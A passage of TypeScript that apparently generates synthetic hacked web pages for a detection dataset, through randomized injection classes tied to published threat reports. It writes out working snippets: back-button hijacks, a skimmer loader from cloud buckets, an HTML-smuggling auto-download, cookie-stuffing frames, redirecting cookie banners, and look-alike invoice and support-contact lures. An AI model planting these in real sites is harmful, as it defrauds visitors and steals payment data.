    `var t;window.addEventListener("blur",function(){t=setTimeout(function(){${swap}},${between(rng, 3000, 15000)})});window.addEventListener("focus",function(){clearTimeout(t)});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

// Back-button hijacking (Chromium's 2019 intervention against history manipulation; Google Search's spam policies on sneaky redirects; Malwarebytes' reports on compromised sites): the script pads the history so that Back leads to a scam page instead of the search results.
const backButton = fresh3("back-button hijack to a scam page", (page, rng) => {
  const url = jsUrl(rng, `https://${randomDomain(rng)}/${pick(rng, ["", "?p=" + alnum(rng, 6), "lp/" + alnum(rng, 5), "win/"])}`)
  const code = pick(rng, [
    `history.pushState({},"",location.href);window.addEventListener("popstate",function(){location.replace(${url})});`,
    `for(var i=0;i<${between(rng, 2, 10)};i++)history.pushState({p:i},"",location.pathname+location.search+"#"+i);window.onpopstate=function(){location.href=${url}};`,
    `if(/google|bing|yahoo|duckduckgo/.test(document.referrer)){history.pushState(null,document.title,location.href);window.addEventListener("popstate",function(){location.replace(${url})})}`,
    `location.hash="${pick(rng, ["!", "top", "p"])}";setTimeout(function(){window.onhashchange=function(){location.href=${url}}},${between(rng, 100, 1000)});`
  ])
  return splices(insert(scriptSpot(rng, page), wrapScript(rng, code)))
})

const extWords: Record<Lang, readonly [string, (name: string) => string, string]> = {
  en: ["This content requires an extension", (n) => `To watch this video and view the page correctly, add the free "${n}" extension to your browser.`, "Add to browser"],
  fr: ["Ce contenu nécessite une extension", (n) => `Pour regarder cette vidéo et afficher la page, ajoutez l'extension gratuite « ${n} » à votre navigateur.`, "Ajouter au navigateur"],
  de: ["Für diesen Inhalt ist eine Erweiterung nötig", (n) => `Um das Video anzusehen, fügen Sie Ihrem Browser die kostenlose Erweiterung „${n}“ hinzu.`, "Zum Browser hinzufügen"],
  es: ["Este contenido requiere una extensión", (n) => `Para ver este vídeo, añada la extensión gratuita "${n}" a su navegador.`, "Añadir al navegador"],
  nl: ["Voor deze inhoud is een extensie nodig", (n) => `Voeg de gratis extensie "${n}" toe aan uw browser om deze video te bekijken.`, "Toevoegen aan browser"],
  pt: ["Este conteúdo requer uma extensão", (n) => `Para assistir a este vídeo, adicione a extensão gratuita "${n}" ao seu navegador.`, "Adicionar ao navegador"],
  it: ["Questo contenuto richiede un'estensione", (n) => `Per guardare il video, aggiungi al browser l'estensione gratuita "${n}".`, "Aggiungi al browser"]
}

// Trustwave SpiderLabs on Rilide (April 2023) and later fake-extension campaigns: visitors told to install a browser extension (a "video player", "PDF viewer" or "translator") to see the page, linking to a store listing or a .crx file.
const extensionLure = fresh3("'install this browser extension' prompt", (page, rng) => {
  const name = pick(rng, ["Video Player HD", "PDF Viewer Pro", "Translate Plus", "Secure Browsing", "Ad Shield", "Sound Booster", "Media Codec Pack"])
  const id = [...Array(32)].map(() => "abcdefghijklmnop"[int(rng, 16)]).join("")
  const url = pick(rng, [
    `https://chromewebstore.google.com/detail/${slug(name)}/${id}`,
    `https://microsoftedge.microsoft.com/addons/detail/${slug(name)}/${id}`,
    `https://addons.mozilla.org/firefox/addon/${slug(name)}-${alnum(rng, 4)}/`,
    `https://${randomDomain(rng)}/ext/${slug(name)}.crx`
  ])
  const [h, p, b] = siteOr(rng, page, extWords)
  const el = pick(rng, [
    `<div style="position:fixed;inset:0;background:rgba(0,0,0,.8);z-index:${between(rng, 9999, 2147483647)};display:flex;align-items:center;justify-content:center"><div style="background:#fff;padding:24px;max-width:440px;text-align:center"><h3>${h}</h3><p>${esc(p(name))}</p><a href="${url}" style="background:#1a73e8;color:#fff;padding:10px 22px">${b}</a></div></div>`,
    `<div class="${pick(rng, ["player-overlay", "ext-required", "video-lock"])}" style="background:#000;color:#fff;text-align:center;padding:60px 20px"><p style="font-size:48px">▶</p><h3>${h}</h3><p>${esc(p(name))}</p><p><a href="${url}" style="color:#8ab4f8">${b}</a></p></div>`,
    `<p class="notice">${esc(p(name))} <a href="${url}">${b}</a></p>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), el))
})

// Image-swap defacements as mirrored on Zone-H and Mirror-H, done through srcset (the attribute modern browsers load in preference to src, per the HTML responsive-images rules): the defacer's picture on a free image host, the original src left in place.
const srcsetSwap = fresh3("responsive image sources swapped, src kept", (page, rng) => {
  const host = pick(rng, ["i.imgur.com", "i.ibb.co", "i.postimg.cc", "files.catbox.moe", "i.hizliresim.com", randomDomain(rng)])
  const file = () => `https://${host}/${alnum(rng, 7)}/${pick(rng, ["", "hacked-", "x"])}${alnum(rng, 6)}.${pick(rng, ["jpg", "png", "gif", "webp"])}`
  const value = () => chance(rng, 0.5) ? `${file()} 1x, ${file()} 2x` : `${file()} 480w, ${file()} 1200w`
  const imgs = shown(page, "img", (e) => (e.attribs.src ?? "").trim().length > 0 && !(e.attribs.src ?? "").startsWith("data:"))
  const sources = page.spots.elements.filter((e) => e.name === "source" && e.inBody && !e.inert && e.attribs.srcset !== undefined)
  const out: Array<Splice> = []
  for (const el of sample(rng, imgs, Math.min(imgs.length, between(rng, 1, 4)))) out.push(setAttr(page, el, "srcset", value()))
  for (const el of sources.slice(0, 3)) out.push(setAttr(page, el, "srcset", value()))
  if (out.length === 0) out.push(insert(slotAt(page.spots, "top"), `<picture><source srcset="${value()}"><img src="/images/banner.jpg" alt=""></picture>`))
  return { splices: out }
})

// RiskIQ (July 2019) on skimmers planted through misconfigured Amazon S3 buckets, and later web-skimming reports of loaders on Google Cloud Storage, Firebase and Cloudflare R2: the skimmer is served from a public cloud-storage host that no blocklist flags.
const cloudBucketSkimmer = fresh3("skimmer loaded from a public cloud-storage bucket", (page, rng) => {
  const bucket = pick(rng, [`${page.site.brand}-assets`, `cdn-${alnum(rng, 6)}`, `jquery-cdn-${digits(rng, 3)}`, `static-${alnum(rng, 5)}`, `${page.site.brand}-media-${digits(rng, 2)}`])
  const file = pick(rng, ["jquery.min.js", "analytics.js", "app.bundle.js", "checkout.js", `${alnum(rng, 8)}.js`, "lib/common.js"])
  const src = pick(rng, [
    `https://storage.googleapis.com/${bucket}/${file}`,
    `https://${bucket}.s3.amazonaws.com/${file}`,
    `https://${bucket}.s3.${pick(rng, ["us-east-1", "eu-west-1", "ap-southeast-1"])}.amazonaws.com/${file}`,
    `https://firebasestorage.googleapis.com/v0/b/${bucket}.appspot.com/o/${encodeURIComponent(file)}?alt=media`,
    `https://pub-${hex(rng, 32)}.r2.dev/${file}`,
    `https://${bucket.replace(/-/g, "")}.blob.core.windows.net/${pick(rng, ["js", "static", "public"])}/${file}`
  ])
  const tag = pick(rng, [
    () => scriptTag(rng, src),
    () => `<script>(function(){var s=document.createElement("script");s.async=true;s.src=${jsUrl(rng, src)};document.getElementsByTagName("head")[0].appendChild(s)})();</script>`,
    () => `<script>if(/checkout|cart|payment|onepage|billing|order/i.test(location.href)${chance(rng, 0.5) ? "||true" : ""}){document.write('<scr'+'ipt src="${src}"></scr'+'ipt>')}</script>`
  ])()
  return splices(insert(scriptSpot(rng, page), tag))
})

const wovenKeywords: Record<Lang, ReadonlyArray<string>> = {
  en: ["best online casino", "buy cialis online", "cheap essay writing", "payday loans same day", "crypto casino bonus", "replica watches"],
  fr: ["casino en ligne fiable", "acheter viagra sans ordonnance", "paris sportifs bonus"], de: ["online casino echtgeld", "viagra kaufen ohne rezept", "sportwetten bonus"],
  es: ["casino online con bono", "comprar viagra sin receta", "apuestas deportivas"], nl: ["online casino zonder cruks", "viagra kopen zonder recept", "snel geld lenen"],
  pt: ["cassino online confiável", "comprar viagra sem receita", "apostas esportivas bônus"], it: ["casinò online non aams", "comprare viagra senza ricetta", "scommesse sportive bonus"]
}
const wovenLeads: Record<Lang, ReadonlyArray<(a: string) => string>> = {
  en: [(a) => `Read also: ${a}.`, (a) => `Many readers also ask about ${a}.`, (a) => `See our guide to ${a}.`],
  fr: [(a) => `À lire aussi : ${a}.`, (a) => `Voir aussi ${a}.`], de: [(a) => `Lesen Sie auch: ${a}.`, (a) => `Siehe auch ${a}.`],
  es: [(a) => `Lea también: ${a}.`, (a) => `Vea también ${a}.`], nl: [(a) => `Lees ook: ${a}.`, (a) => `Zie ook ${a}.`],
  pt: [(a) => `Leia também: ${a}.`, (a) => `Veja também ${a}.`], it: [(a) => `Leggi anche: ${a}.`, (a) => `Vedi anche ${a}.`]
}
const proseParents = new Set(["p", "li", "td", "dd", "div", "blockquote", "article", "section", "span", "em", "strong"])

// SEO spam injected into post content (Sucuri's and Wordfence's clean-up reports of links written into wp_posts and article bodies): a short sentence with a keyword link woven into the end of several existing paragraphs.
const spamSentences = fresh3("spam sentences with links woven into existing paragraphs", (page, rng) => {
  const good = (t: { parent: number }) => {
    const el = page.spots.elements[t.parent]
    return el !== undefined && proseParents.has(el.name) && !inside(page, el, inline)
  }
  let runs = textRuns(page, 40).filter(good)
  if (runs.length === 0) runs = textRuns(page, 8).filter(good)
  const l = chance(rng, 0.7) ? lang(page) : "en"
  const dom = randomDomain(rng)
  const chosen = sample(rng, runs, Math.min(runs.length, between(rng, 2, 5)))
  const sentence = () => {
    const kw = pick(rng, wovenKeywords[l])
    return pick(rng, wovenLeads[l])(`<a href="https://${pick(rng, [dom, randomDomain(rng)])}/${slug(kw)}/">${esc(kw)}</a>`)
  }
  if (chosen.length === 0) return splices(insert(anySlot(rng, page.spots), `<p>${sentence()}</p>`))
  return splices(...chosen.map((t) => insert(trimmed(page, t).end, " " + sentence())))
})

// Affiliate cookie stuffing (the eBay Partner Network case against Shawn Hogan and Brian Dunning, convicted 2014; injected affiliate frames and pixels found in hacked-site clean-ups): invisible images or frames load affiliate click URLs so that every visitor carries the attacker's referral cookie.
const cookieStuffing = fresh3("affiliate cookie-stuffing pixels and frames", (page, rng) => {
  const urls = Array.from({ length: between(rng, 2, 6) }, () => pick(rng, [
    () => `https://rover.ebay.com/rover/1/${digits(rng, 3)}-${digits(rng, 5)}-${digits(rng, 5)}-${digits(rng, 1)}/1?campid=${digits(rng, 10)}&toolid=10001&mpre=${encodeURIComponent("https://www.ebay.com/")}`,
    () => `https://www.amazon.${pick(rng, ["com", "co.uk", "de", "fr", "es", "it"])}/?tag=${alnum(rng, 8)}-${pick(rng, ["20", "21"])}`,
    () => `https://click.linksynergy.com/deeplink?id=${alnum(rng, 11)}&mid=${digits(rng, 5)}&murl=${encodeURIComponent("https://www." + pick(rng, ["walmart.com", "macys.com", "bestbuy.com"]) + "/")}`,
    () => `https://www.booking.com/index.html?aid=${digits(rng, 7)}`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["aff/click", "track", "c"])}?id=${alnum(rng, 8)}&sub=${page.site.brand}`
  ])())
  const els = urls.map((u) => pick(rng, [
    `<img src="${esc(u)}" width="1" height="1" style="display:none" alt="">`,
    `<iframe src="${esc(u)}" width="0" height="0" frameborder="0" style="visibility:hidden;position:absolute"></iframe>`,
    `<img src="${esc(u)}" width="1" height="1" border="0" alt="">`
  ])).join("")
  return splices(insert(pick(rng, [bottom(page), bottom(page), top(page), anySlot(rng, page.spots)]), chance(rng, 0.5) ? `<div style="${pick(rng, ["display:none", "position:absolute;left:-3000px", "height:0;overflow:hidden"])}">${els}</div>` : els))
})

// FTC and BBB warnings about fake customer-support numbers shown in search results (2022–2024) and structured-data spam in SEO-hack clean-ups: schema.org data added to the page naming another phone number and e-mail for the business, which search engines may display instead of the real ones.
const contactStructuredData = fresh3("structured data giving another phone number and e-mail", (page, rng) => {
  const brand = cap(page.site.brand)
  const tel = chance(rng, 0.6) ? swapPhone(page.site.locale, page.ids.phone, rng).intl : `+1-8${pick(rng, ["00", "33", "44", "55", "66", "77", "88"])}-${digits(rng, 3)}-${digits(rng, 4)}`
  const mail = pick(rng, [`support.${page.site.brand}@gmail.com`, `${page.ids.email.split("@")[0]}@${brandLookalike(rng, page.site.brand)}`, `help@${randomDomain(rng)}`])
  const data = {
    "@context": "https://schema.org",
    "@type": pick(rng, ["Organization", "LocalBusiness", "Corporation", "Store"]),
    name: brand,
    url: page.site.url,
    telephone: tel,
    email: mail,
    contactPoint: { "@type": "ContactPoint", telephone: tel, contactType: pick(rng, ["customer service", "customer support", "billing support"]), availableLanguage: [lang(page)] }
  }
  const ld = `<script type="application/ld+json">${JSON.stringify(data)}</script>`
  const micro = `<div itemscope itemtype="https://schema.org/Organization" style="display:none"><meta itemprop="name" content="${esc(brand)}"><meta itemprop="telephone" content="${esc(tel)}"><meta itemprop="email" content="${esc(mail)}"></div>`
  return splices(chance(rng, 0.7) ? insert(pick(rng, [head(page), head(page), bottom(page)]), ld) : insert(pick(rng, [bottom(page), besideContact(page)]), micro))
})

// Fake community links on compromised project and shop sites (Discord and Telegram invite hijacking described by Check Point Research, 2022; fake "official" Telegram support channels in crypto and refund scams): a new "official" channel added beside the site's real follow-us links.
const fakeChannel = fresh3("fake 'official' chat channel added to the follow-us links", (page, rng) => {
  const handle = page.site.brand.replace(/-/g, "")
  const [label, href] = pick(rng, [
    ["Telegram", `https://t.me/${handle}_${pick(rng, ["official", "support", "community", "news", "help"])}${pick(rng, ["", digits(rng, 2)])}`],
    ["Telegram", `https://t.me/+${alnum(rng, 16)}`],
    ["Discord", `https://discord.gg/${alnum(rng, 8)}`],
    ["WhatsApp", `https://whatsapp.com/channel/${alnum(rng, 22).toUpperCase()}`],
    ["WhatsApp", `https://chat.whatsapp.com/${alnum(rng, 22)}`]
  ] as const)
  const text = pick(rng, [label, `${label} (${pick(rng, ["official", "support", "new"])})`, `${label} ${pick(rng, ["Support", "Community", "VIP"])}`])
  const a = `<a href="${href}"${chance(rng, 0.5) ? ` target="_blank" rel="noopener"` : ""}>${esc(text)}</a>`
  const socials = shown(page, "a", (e) => page.ids.social.some((s) => s.href === (e.attribs.href ?? "")))
  const last = socials[socials.length - 1]
  if (last?.closeTag != null && chance(rng, 0.85)) return splices(insert(last.closeTag.end, pick(rng, [" · ", " | ", ", "]) + a))
  return splices(insert(besideContact(page), `<p>${esc(page.site.words.follow)}: ${a}</p>`))
})

const invoiceWords: Record<Lang, readonly [string, (mail: string, date: string) => string]> = {
  en: ["Notice to customers and suppliers", (m, d) => `Our accounts department has moved to a new e-mail system. From ${d}, please send all invoices, remittance advice and payment queries to ${m}. Updated payment details will be confirmed from this address.`],
  fr: ["Avis aux clients et fournisseurs", (m, d) => `Notre service comptable change de messagerie. À partir du ${d}, merci d'adresser factures, avis de paiement et questions à ${m}. Nos nouvelles coordonnées de paiement vous seront confirmées depuis cette adresse.`],
  de: ["Hinweis für Kunden und Lieferanten", (m, d) => `Unsere Buchhaltung hat ein neues E-Mail-System. Ab dem ${d} senden Sie bitte alle Rechnungen, Zahlungsavise und Anfragen an ${m}. Aktualisierte Zahlungsdaten bestätigen wir von dieser Adresse.`],
  es: ["Aviso a clientes y proveedores", (m, d) => `Nuestro departamento de contabilidad cambia de correo. Desde el ${d}, envíe facturas, avisos de pago y consultas a ${m}. Los nuevos datos de pago se confirmarán desde esta dirección.`],
  nl: ["Bericht aan klanten en leveranciers", (m, d) => `Onze financiële administratie gebruikt een nieuw e-mailsysteem. Stuur vanaf ${d} alle facturen, betaaladviezen en vragen naar ${m}. Gewijzigde betaalgegevens bevestigen wij vanaf dit adres.`],
  pt: ["Aviso a clientes e fornecedores", (m, d) => `Nosso departamento financeiro mudou de sistema de e-mail. A partir de ${d}, envie notas fiscais, comprovantes e dúvidas para ${m}. Os novos dados de pagamento serão confirmados a partir deste endereço.`],
  it: ["Avviso a clienti e fornitori", (m, d) => `Il nostro ufficio amministrativo ha un nuovo sistema di posta. Dal ${d} inviate fatture, avvisi di pagamento e richieste a ${m}. I nuovi dati di pagamento saranno confermati da questo indirizzo.`]
}

// FBI IC3 public service announcements on business e-mail compromise (2022–2023), vendor-impersonation variant: a notice on the supplier's own site that invoices and remittances now go to a new address, a look-alike of the real one.
const invoiceNotice = fresh3("'our accounts e-mail has changed' notice with a look-alike address", (page, rng) => {
  const local = pick(rng, ["accounts", "invoices", "billing", "finance", "ap", "accounting"])
  const mail = pick(rng, [`${local}@${brandLookalike(rng, page.site.brand)}`, `${page.site.brand.replace(/-/g, "")}.${local}@${pick(rng, ["outlook.com", "gmail.com", "proton.me"])}`, `${local}@${page.site.domain.replace(/\.[^.]+$/, "")}-${pick(rng, ["group", "finance", "ltd"])}.${pick(rng, ["com", "net", "co"])}`])
  const date = page.site.locale.date(new Date(Date.UTC(2026, between(rng, 0, 11), between(rng, 1, 28))))
  const [h, p] = siteOr(rng, page, invoiceWords)
  const body = esc(p(mail, date)).replace(esc(mail), `<a href="mailto:${mail}">${mail}</a>`)
  const el = pick(rng, [
    `<div class="${pick(rng, ["notice", "announcement", "info-box"])}" style="border:1px solid #ccc;background:#f7f7f7;padding:12px"><h4>${h}</h4><p>${body}</p></div>`,
    `<p class="notice"><strong>${h}:</strong> ${body}</p>`
  ])
  return splices(insert(chance(rng, 0.7) ? besideContact(page) : pick(rng, [top(page), slotAt(page.spots, "top")]), el))
})

// Proofpoint (2019) on phishing kits using a custom web font as a substitution cipher, so the text a browser draws differs from the text in the source: here a font from another host applied to the page's contact details, redrawing their digits and letters.
const glyphFont = fresh3("web font from another host redrawing the contact details", (page, rng) => {
  const host = pick(rng, [randomDomain(rng), libLookalike(rng), `fonts-${alnum(rng, 5)}.${pick(rng, ["com", "net", "io"])}`])
  const fam = pick(rng, ["Roboto Contact", "Inter Num", "OpenSansX", `f${alnum(rng, 5)}`, "Lato Digits"])
  const file = `${pick(rng, ["fonts", "assets/fonts", "wf"])}/${alnum(rng, 8)}`
  const range = pick(rng, ["", ";unicode-range:U+0030-0039", ";unicode-range:U+0030-0039,U+0040,U+002B", ";unicode-range:U+0020-007E"])
  const face = `@font-face{font-family:"${fam}";src:url("https://${host}/${file}.woff2") format("woff2"),url(https://${host}/${file}.woff) format("woff")${range}}`
  const sel = pick(rng, [
    `#contact,#contact-us,.contact-box,.site-contact,.footer-contact,a[href^="tel:"],a[href^="mailto:"]`,
    `footer,.footer-contact,.contact-box,#contact-us,address`,
    `a[href^="tel:"],a[href^="mailto:"],code,dd,td`,
    `body`
  ])
  return splices(insert(pick(rng, [head(page), head(page), top(page)]), style(rng, `${face}${sel}{font-family:"${fam}"${pick(rng, ["", " !important"])}}`)))
})

const greyWords: Record<Lang, readonly [string, (vuln: string, contact: string) => string]> = {
  en: ["Security notice for the administrator", (v, c) => `Dear admin, your website is vulnerable (${v}). I have not touched your data. Contact me at ${c} for a full report and a fix — a bounty is expected.`],
  fr: ["Avis de sécurité pour l'administrateur", (v, c) => `Bonjour, votre site présente une faille (${v}). Je n'ai touché à aucune donnée. Contactez-moi à ${c} pour le rapport complet et la correction, contre récompense.`],
  de: ["Sicherheitshinweis für den Administrator", (v, c) => `Hallo Admin, Ihre Website hat eine Schwachstelle (${v}). Ich habe keine Daten verändert. Kontaktieren Sie mich unter ${c} für den Bericht und die Behebung – gegen eine Belohnung.`],
  es: ["Aviso de seguridad para el administrador", (v, c) => `Hola, su sitio web es vulnerable (${v}). No he tocado sus datos. Escríbame a ${c} para recibir el informe y la solución, a cambio de una recompensa.`],
  nl: ["Beveiligingsmelding voor de beheerder", (v, c) => `Beste beheerder, uw website is kwetsbaar (${v}). Ik heb niets aan uw gegevens veranderd. Neem contact op via ${c} voor het rapport en de oplossing, tegen een beloning.`],
  pt: ["Aviso de segurança para o administrador", (v, c) => `Olá, seu site está vulnerável (${v}). Não mexi nos seus dados. Fale comigo em ${c} para receber o relatório e a correção, mediante recompensa.`],
  it: ["Avviso di sicurezza per l'amministratore", (v, c) => `Gentile admin, il vostro sito è vulnerabile (${v}). Non ho toccato i dati. Contattatemi a ${c} per il report completo e la correzione, dietro ricompensa.`]
}

// "Beg bounty" notices (Sophos, 2021; Troy Hunt, 2021) and the polite "security notice" defacements found in Zone-H mirrors: no damage claimed, a vulnerability named, the site's admin asked to get in touch for a paid fix.
const greyHatNotice = fresh3("polite 'security notice' from an intruder asking for a bounty", (page, rng) => {
  const vuln = pick(rng, ["SQL injection in /search?q=", "CVE-2020-25213, wp-file-manager", "exposed /.env file", "unrestricted file upload in /upload.php", "stored XSS in the contact form", "directory listing on /wp-content/uploads", "default admin password"])
  const who = nick(rng).replace(/[^A-Za-z0-9_]/g, "").toLowerCase() || `sec${digits(rng, 3)}`
  const contact = pick(rng, [`${who}@${pick(rng, ["proton.me", "protonmail.com", "tutanota.com", "gmail.com"])}`, `Telegram @${who}`])
  const [h, p] = siteOr(rng, page, greyWords)
  const el = pick(rng, [
    `<div style="border:2px dashed #c00;padding:14px;margin:10px;background:#fff"><h3>${h}</h3><p>${esc(p(vuln, contact))}</p></div>`,
    `<p style="text-align:center;font-family:monospace"><b>${h}</b><br>${esc(p(vuln, contact))}</p>`,
    `<section class="security-note"><h2>${h}</h2><p>${esc(p(vuln, contact))}</p><p>— ${esc(who)}</p></section>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), bottom(page), slotAt(page.spots, "top")]), el))
})

const consentWords: Record<Lang, readonly [string, string, string]> = {
  en: ["We use cookies to improve your experience. By continuing to browse you accept our cookie policy.", "Accept all", "Settings"],
  fr: ["Nous utilisons des cookies pour améliorer votre expérience. En poursuivant votre navigation, vous acceptez notre politique de cookies.", "Tout accepter", "Paramètres"],
  de: ["Wir verwenden Cookies, um Ihr Erlebnis zu verbessern. Wenn Sie weitersurfen, stimmen Sie unserer Cookie-Richtlinie zu.", "Alle akzeptieren", "Einstellungen"],
  es: ["Usamos cookies para mejorar su experiencia. Si continúa navegando, acepta nuestra política de cookies.", "Aceptar todo", "Configuración"],
  nl: ["Wij gebruiken cookies om uw ervaring te verbeteren. Door verder te surfen gaat u akkoord met ons cookiebeleid.", "Alles accepteren", "Instellingen"],
  pt: ["Usamos cookies para melhorar sua experiência. Ao continuar navegando, você aceita nossa política de cookies.", "Aceitar todos", "Configurações"],
  it: ["Utilizziamo i cookie per migliorare la tua esperienza. Continuando la navigazione accetti la nostra cookie policy.", "Accetta tutti", "Impostazioni"]
}

// Malwarebytes (January 2016) on fraud hidden behind cookie notices, and injected consent pop-ups on hacked sites whose buttons redirect: a cookie notice in the site's language whose "Accept" and "Settings" lead to another site.
const fakeConsent = fresh3("fake cookie notice whose buttons lead to another site", (page, rng) => {
  const dom = randomDomain(rng)
  const go = (p: string) => `https://${dom}/${p}?${pick(rng, ["s", "z", "c"])}=${alnum(rng, 8)}`
  const [text, accept, settings] = siteOr(rng, page, consentWords)
  const buttons = pick(rng, [
    () => `<a href="${go("go")}" class="cc-accept" style="background:#2e7d32;color:#fff;padding:6px 14px">${accept}</a> <a href="${go("settings")}" class="cc-settings">${settings}</a>`,
    () => `<button type="button" onclick="${esc(`window.open(${jsUrl(rng, go("r"))},"_blank");this.parentNode.style.display="none"`)}">${accept}</button> <button type="button" onclick="${esc(`location.href=${jsUrl(rng, go("p"))}`)}">${settings}</button>`
  ])()
  const bar = `<div class="${pick(rng, ["cookie-notice", "cc-window", "gdpr-bar", "cookie-consent"])}" style="position:fixed;${pick(rng, ["bottom", "top"])}:0;left:0;right:0;background:#222;color:#fff;padding:12px;z-index:${between(rng, 9999, 2147483647)};text-align:center">${text} ${buttons}</div>`
  return splices(insert(pick(rng, [bottom(page), top(page)]), bar))
})

const smuggleWords: Record<Lang, readonly [string, string]> = {
  en: ["Your document is ready", "Download"], fr: ["Votre document est prêt", "Télécharger"], de: ["Ihr Dokument ist bereit", "Herunterladen"],
  es: ["Su documento está listo", "Descargar"], nl: ["Uw document staat klaar", "Downloaden"], pt: ["Seu documento está pronto", "Baixar"], it: ["Il tuo documento è pronto", "Scarica"]
}

// Microsoft Threat Intelligence, "HTML smuggling surges" (November 2021; NOBELIUM's ISOMorph, Mekotio): the file is built inside the page from encoded data and handed to the visitor as a download, so no file is fetched from any server.
const htmlSmuggling = fresh3("file smuggled into the page as an automatic download", (page, rng) => {
  const payload = b64(alnum(rng, between(rng, 120, 480)))
  const name = pick(rng, [`Invoice_${digits(rng, 6)}`, `${cap(page.site.brand)}_document`, `Statement_${digits(rng, 4)}`, `Order-${digits(rng, 5)}`]) + pick(rng, [".zip", ".iso", ".img", ".html", ".js", ".vhd"])
  const [h, b] = siteOr(rng, page, smuggleWords)
  const script = `<script>(function(){var b=atob("${payload}"),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u],{type:"application/octet-stream"}));a.download=${JSON.stringify(name)};document.body.appendChild(a);a.click()})();</script>`
  const link = `<a href="data:application/octet-stream;base64,${payload}" download="${esc(name)}">${b} ${esc(name)}</a>`
  const box = `<div class="${pick(rng, ["download-box", "doc-ready", "file"])}" style="padding:14px;border:1px solid #ddd;margin:10px 0"><h3>📄 ${h}</h3><p>${link}</p></div>`
  return pick(rng, [
    () => splices(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), box)),
    () => splices(insert(bottom(page), script), insert(pick(rng, [top(page), slotAt(page.spots, "top")]), box)),
    () => splices(insert(pick(rng, [bottom(page), slotAt(page.spots, "middle")]), script))
  ])()
})

/** Every fresh3 defacement class, in a fixed order. */
export const fresh3Defacements: ReadonlyArray<ChangeClass> = [
  fakeListings, parasiteArticle, gootloaderForum, fontGarble, navMenuSpam, cssKeylogger, cookieTheft, rogueAdmin,
  religiousMessage, tollFine, tabnabbing, backButton, extensionLure, srcsetSwap, cloudBucketSkimmer, spamSentences,
  cookieStuffing, contactStructuredData, fakeChannel, invoiceNotice, glyphFont, greyHatNotice, fakeConsent, htmlSmuggling
]
